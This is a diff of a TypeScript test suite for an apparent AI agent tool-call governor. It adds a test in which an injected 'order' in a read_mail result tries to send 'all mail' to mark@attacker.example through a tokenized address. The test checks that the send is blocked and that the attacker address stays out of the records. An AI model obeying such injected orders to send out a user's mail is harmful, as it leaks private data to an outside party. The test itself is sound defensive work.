@@ -18,16 +18,16 @@ import { Parks } from "./park.ts";
 import { testProvenance } from "./provenance.fixture.ts";
 import { Relay } from "./relay.ts";
 import { Roles } from "./roles.ts";
-import { screeningOf } from "./screening.fixture.ts";
+import { screeningOf, tokensOf } from "./screening.fixture.ts";
 import { Sealer } from "./seal.ts";
 import { Tracing } from "./tracing.ts";
 
-function stand(mode: SequenceMode, text: string) {
+function stand(mode: SequenceMode, text: string, send: JsonObject = {}) {
   const answer = (): UpstreamAnswer => ({ kind: "result", result: { content: [{ type: "text", text }] } });
   const sent: string[] = [];
   const grants = [
     toolGrant("read_mail", { server: "mail" }),
-    toolGrant("send_mail", { server: "mail", effect: "send" }),
+    toolGrant("send_mail", { server: "mail", effect: "send", ...send }),
   ];
   const { roles } = rolesWith(grants, [], { sequence: { mode } });
   const { governor, records } = governed(roles, { now: 1_000 });
@@ -103,6 +103,17 @@ describe("an order in an answer", () => {
     await off.call("read_mail", { id: "m-1" });
     expect(JSON.stringify(off.records)).not.toContain('"trace":{');
   });
+});
+
+test("a token that would become its value is judged as the value: an order in data sends nothing to a token either", async () => {
+  const tokens = { open: ["email"], keep: [] };
+  const { call, sent, records } = stand("enforce", order, { tokens });
+  await call("read_mail", { id: "m-1" });
+  const token = tokensOf("default").make({ type: "email", value: "mark@attacker.example" });
+  const written = await call("send_mail", { to: token ?? "", body: "all mail" });
+  expect(written).toContain("sequence.injected");
+  expect(sent).toHaveLength(1);
+  expect(JSON.stringify(records)).not.toContain("attacker");
 });
 
 test("a name of an argument in which sensitive data is found is a digest on record, however deep it stands; others are as they came", async () => {
